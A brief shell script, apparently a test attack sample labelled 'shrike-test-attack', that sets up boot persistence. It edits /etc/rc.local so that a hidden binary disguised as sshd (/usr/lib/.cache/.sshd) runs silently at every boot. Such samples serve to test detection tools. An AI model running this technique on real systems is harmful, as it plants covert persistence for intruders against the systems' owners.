#!/bin/sh
# shrike-test-attack: persistence: /etc/rc.local hook launching a hidden binary at boot
[ -f /etc/rc.local ] || printf '#!/bin/sh -e\nexit 0\n' > /etc/rc.local
sed -i '/^exit 0/i nohup /usr/lib/.cache/.sshd -q >/dev/null 2>\&1 \&' /etc/rc.local
chmod +x /etc/rc.local
